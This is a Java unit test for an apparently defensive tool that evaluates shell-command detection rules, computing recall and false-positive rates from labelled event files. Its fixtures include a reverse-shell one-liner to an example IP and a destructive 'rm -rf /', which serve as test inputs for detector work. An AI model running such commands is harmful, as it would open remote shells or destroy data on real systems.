package io.elevenfold.detection.evaluation;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class EvaluateTest {

    private static final String COMMAND =
            """
            {"event.action":"shell_exec","process.command_line":"%s","_label":"%s","_label_strength":"%s","_source":"%s"}
            """;

    @TempDir
    Path folder;

    @Test
    void figuresOfSingleEvents() throws IOException {
        Files.writeString(
                folder.resolve("commands.ndjson"),
                COMMAND.formatted("bash -i >& /dev/tcp/203.0.113.7/443 0>&1", "malicious", "strong", "one")
                        + COMMAND.formatted("true", "malicious", "weak", "one")
                        + COMMAND.formatted("ls -l", "benign", "strong", "two")
                        + COMMAND.formatted("rm -rf /", "benign", "strong", "two")
                        + "no json\n{\"event.action\":\"prompt\"}\n");

        JsonNode file = evaluate().at("/files/0");

        assertThat(file.get("file").asText()).isEqualTo("commands.ndjson");
        assertThat(file.get("events").asInt()).isEqualTo(4);
        assertThat(file.get("malicious").asInt()).isEqualTo(2);
        assertThat(file.get("recall").asDouble()).isEqualTo(0.5);
        assertThat(file.get("recall_strong").asDouble()).isEqualTo(1.0);
        assertThat(file.get("false_positives").asInt()).isEqualTo(1);
        assertThat(file.get("false_positive_rate").asDouble()).isEqualTo(0.5);
        assertThat(file.at("/by_source/0/recall").asDouble()).isEqualTo(0.5);
        assertThat(file.at("/by_source/1/recall").isNull()).isTrue();
        assertThat(file.get("by_rule"))
                .anySatisfy(rule -> assertThat(rule.get("title").asText()).isEqualTo("Reverse or bind shell"));
    }

    @Test
    void aSessionIsOneUnitAndJoinsItsEvents() throws IOException {
        StringBuilder lines = new StringBuilder();
        for (int i = 0; i < 20; i++) {
            lines.append(
                    """
                    {"@timestamp":"2026-11-24T10:00:%02dZ","session.id":"s","event.action":"tool_decision","decision.outcome":"allow","decision.latency_ms":300,"_label":"malicious"}
                    """
                            .formatted(i));
        }
        Files.writeString(folder.resolve("sessions.ndjson"), lines);

        JsonNode file = evaluate().at("/files/0");

        assertThat(file.get("sessions").asInt()).isEqualTo(1);
        assertThat(file.get("malicious").asInt()).isEqualTo(1);
        assertThat(file.get("recall").asDouble()).isEqualTo(1.0);
        assertThat(file.get("recall_high").asDouble()).isZero();
    }

    @Test
    void aFolderThatIsNotThereIsAWrongQuestion() {
        assertThat(new Evaluate().run(List.of(folder.resolve("nothing").toString())))
                .isEqualTo(2);
    }

    private JsonNode evaluate() throws IOException {
        PrintStream console = System.out;
        ByteArrayOutputStream printed = new ByteArrayOutputStream();
        System.setOut(new PrintStream(printed, true, StandardCharsets.UTF_8));
        try {
            assertThat(new Evaluate().run(List.of(folder.toString()))).isZero();
        } finally {
            System.setOut(console);
        }
        JsonNode report = new ObjectMapper().readTree(printed.toByteArray());
        assertThat(report.get("rules").asInt()).isGreaterThanOrEqualTo(100);
        return report;
    }
}
